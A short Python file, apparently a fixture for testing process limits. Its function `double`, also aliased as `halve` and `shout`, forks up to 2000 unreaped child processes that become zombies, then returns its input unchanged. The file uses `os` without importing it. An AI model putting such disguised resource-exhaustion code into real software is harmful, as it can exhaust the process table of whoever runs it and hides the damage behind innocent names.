"""Leaves dead children that nobody collects."""


def double(x):
    for _ in range(2000):
        try:
            if os.fork() == 0:
                os._exit(0)
        except OSError:
            break
    return x


halve = shout = double
